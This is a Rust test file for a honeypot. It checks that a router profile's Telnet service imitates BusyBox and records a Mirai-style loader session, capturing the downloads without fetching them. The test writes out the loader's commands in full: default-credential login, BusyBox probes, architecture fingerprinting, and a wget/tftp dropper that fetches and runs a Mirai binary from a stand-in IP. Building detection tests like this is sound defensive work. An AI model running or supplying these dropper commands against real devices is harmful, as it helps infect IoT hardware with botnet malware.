//! A router-profile node over its real Telnet service: the login lands in the BusyBox
//! shell (not Debian's bash), and a Mirai-family loader's sequence gets the answers a
//! TP-Link router's BusyBox gives (`enable`/`system`/`shell` not found, `ECCHI: applet
//! not found`, `/proc/mounts` with a writable tmpfs, an echo-written file read back, a
//! MIPS ELF from `dd … if=/bin/echo`), its downloads recorded and never fetched.

mod shell_common;
use honeybee_proto::config::{LoginPolicy, NodeConfig, ServiceKind};
use honeybee_proto::profile::Profile;
use shell_common::*;
use std::net::IpAddr;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// The router profile on loopback, every login accepted at once.
fn router() -> NodeConfig {
    let mut services = Profile::Router.services(IpAddr::from([127, 0, 0, 1]));
    for s in &mut services {
        s.listen.set_port(0);
        if let ServiceKind::Telnet(o) = &mut s.kind {
            o.login = LoginPolicy::Always;
            o.auth_failure_delay_ms = 0;
        }
    }
    NodeConfig { services }
}

/// A raw telnet peer as a bot's loader is: it answers no option (the server gives up
/// negotiating) and reads what comes.
struct Peer {
    s: TcpStream,
    seen: Vec<u8>,
    /// Where the telnet command parser is (see `absorb`).
    state: u32,
}

impl Peer {
    async fn wait_for(&mut self, from: usize, what: &[u8]) -> usize {
        let deadline = tokio::time::Instant::now() + WAIT;
        loop {
            let hay = &self.seen[from.min(self.seen.len())..];
            if let Some(i) = hay.windows(what.len()).position(|w| w == what) {
                return from + i + what.len();
            }
            let mut buf = [0u8; 4096];
            let n = tokio::time::timeout_at(deadline, self.s.read(&mut buf))
                .await
                .unwrap_or_else(|_| {
                    panic!(
                        "no {:?} in {:?}",
                        String::from_utf8_lossy(what),
                        String::from_utf8_lossy(&self.seen)
                    )
                })
                .unwrap();
            assert!(
                n > 0,
                "closed before {:?}: {:?}",
                String::from_utf8_lossy(what),
                String::from_utf8_lossy(&self.seen)
            );
            let replies = self.absorb(&buf[..n]);
            if !replies.is_empty() {
                self.s.write_all(&replies).await.unwrap();
            }
        }
    }

    /// Keeps the data and refuses every option offered (IAC DO → WONT, WILL → DONT),
    /// as a bot's minimal telnet code does; subnegotiations are skipped.
    fn absorb(&mut self, data: &[u8]) -> Vec<u8> {
        const IAC: u8 = 255;
        let mut replies = Vec::new();
        for &b in data {
            match (self.state, b) {
                (0, IAC) => self.state = 1,
                (0, b) => self.seen.push(b),
                (1, IAC) => {
                    self.seen.push(IAC);
                    self.state = 0;
                }
                (1, 250) => self.state = 3,
                (1, c @ 251..=254) => self.state = 10 + u32::from(c - 251),
                (1, _) => self.state = 0,
                (3, IAC) => self.state = 4,
                (3, _) => {}
                (4, 240) => self.state = 0,
                (4, _) => self.state = 3,
                (s, opt) => {
                    // WILL (10) / WONT (11) → DONT; DO (12) / DONT (13) → WONT.
                    let verb = if s <= 11 { 254 } else { 252 };
                    if s == 10 || s == 12 {
                        replies.extend_from_slice(&[IAC, verb, opt]);
                    }
                    self.state = 0;
                }
            }
        }
        replies
    }

    async fn send(&mut self, line: &str) {
        self.s
            .write_all(format!("{line}\r\n").as_bytes())
            .await
            .unwrap();
    }
}

#[tokio::test]
async fn router_telnet_runs_a_mirai_loader_sequence_in_busybox() {
    let dir = tempfile::tempdir().unwrap();
    let mut run = start(dir.path(), &router()).await;
    let s = TcpStream::connect(run.addr).await.unwrap();
    let mut p = Peer {
        s,
        seen: Vec::new(),
        state: 0,
    };
    let at = p.wait_for(0, b" login: ").await;
    let opening = String::from_utf8_lossy(&p.seen[..at]).into_owned();
    assert!(
        !opening.contains("Linux 6."),
        "no Debian host line: {opening:?}"
    );
    p.send("admin").await;
    let at = p.wait_for(at, b"Password: ").await;
    p.send("admin").await;
    let at = p
        .wait_for(
            at,
            b"built-in shell (ash)\r\nEnter 'help' for a list of built-in commands.\r\n\r\n# ",
        )
        .await;
    let banner = String::from_utf8_lossy(&p.seen).into_owned();
    assert!(banner.contains("BusyBox v1.24.1 ("), "{banner:?}");
    assert!(
        !banner.contains("\x1b[?2004"),
        "no bracketed paste: {banner:?}"
    );
    assert!(!banner.contains("Debian"), "{banner:?}");
    // The CLI escapes a loader tries first: none is a command of ash.
    p.send("enable").await;
    let at = p.wait_for(at, b"-sh: enable: not found\r\n# ").await;
    p.send("system").await;
    let at = p.wait_for(at, b"-sh: system: not found\r\n# ").await;
    p.send("shell").await;
    let at = p.wait_for(at, b"-sh: shell: not found\r\n# ").await;
    p.send("sh").await;
    let at = p.wait_for(at, b"# ").await;
    p.send("/bin/busybox ECCHI").await;
    let at = p.wait_for(at, b"ECCHI: applet not found\r\n# ").await;
    p.send("/bin/busybox ps; /bin/busybox cat /proc/mounts; /bin/busybox ECCHI")
        .await;
    let at = p
        .wait_for(at, b"  PID USER       VSZ STAT COMMAND\r\n")
        .await;
    let at = p.wait_for(at, b"tmpfs /var tmpfs rw").await;
    let at = p.wait_for(at, b"ECCHI: applet not found\r\n# ").await;
    // Writability of a mount: a file written with echo's escapes and read back.
    p.send("/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69' > /var/tmp/.nippon; /bin/busybox cat /var/tmp/.nippon; /bin/busybox rm /var/tmp/.nippon")
        .await;
    let at = p.wait_for(at, b"kami\r\n# ").await;
    // The architecture from the ELF header of /bin/echo.
    p.send("cd /var/tmp; dd bs=52 count=1 if=/bin/echo || /bin/busybox cat /bin/echo; /bin/busybox ECCHI")
        .await;
    // (dd's record counts, on stderr, come before or after the bytes.)
    p.wait_for(at, b"1+0 records in\r\n1+0 records out\r\n")
        .await;
    p.wait_for(at, b"\x7fELF\x01").await;
    let at = p.wait_for(at, b"ECCHI: applet not found\r\n# ").await;
    p.send("cat /proc/cpuinfo | grep 'cpu model'").await;
    let at = p.wait_for(at, b"cpu model\t\t: MIPS ").await;
    // The droppers: recorded, never fetched; the shell stays.
    p.send("/bin/busybox wget http://198.51.100.7/bins/mirai.mips -O - > dvrHelper; /bin/busybox tftp -g -l dvrHelper -r mirai.mips 198.51.100.7; /bin/busybox chmod 777 dvrHelper; ./dvrHelper telnet.mips; /bin/busybox ECCHI")
        .await;
    let at = p
        .wait_for(
            at,
            b"wget: can't connect to remote host (198.51.100.7): Connection refused",
        )
        .await;
    let at = p.wait_for(at, b"tftp: timeout").await;
    let at = p.wait_for(at, b"ECCHI: applet not found\r\n# ").await;
    let all = String::from_utf8_lossy(&p.seen).into_owned();
    assert!(
        !all.contains("\x1b[?2004"),
        "ash has no bracketed paste: {all:?}"
    );
    p.send("exit").await;
    let mut rest = Vec::new();
    let _ = tokio::time::timeout(WAIT, p.s.read_to_end(&mut rest)).await;
    assert!(
        !String::from_utf8_lossy(&rest).contains("logout"),
        "ash says no logout"
    );
    let _ = at;
    let events = until_disconnect(&mut run.rx).await;
    let urls: Vec<String> = downloads(&events).into_iter().map(|(u, _)| u).collect();
    assert!(
        urls.contains(&"http://198.51.100.7/bins/mirai.mips".to_owned())
            && urls.contains(&"tftp://198.51.100.7/mirai.mips".to_owned()),
        "{urls:?}"
    );
    let cmds = commands(&events);
    assert!(cmds.iter().any(|c| c == "/bin/busybox ECCHI"), "{cmds:?}");
    run.mgr.shutdown().await;
}

/// The `linux-server` profile is unchanged: its SSH service's shell is still bash.
#[test]
fn linux_server_profile_keeps_bash() {
    let kinds: Vec<&str> = Profile::LinuxServer
        .services(IpAddr::from([127, 0, 0, 1]))
        .iter()
        .map(|s| s.kind.name())
        .collect();
    assert!(!kinds.contains(&"telnet"), "{kinds:?}");
    let (out, _, _) = honeybee_agent::fuzz_api::shell_exec("echo $BASH_VERSION; foo", true);
    assert_eq!(String::from_utf8_lossy(&out), "5.2.15(1)-release\n");
}
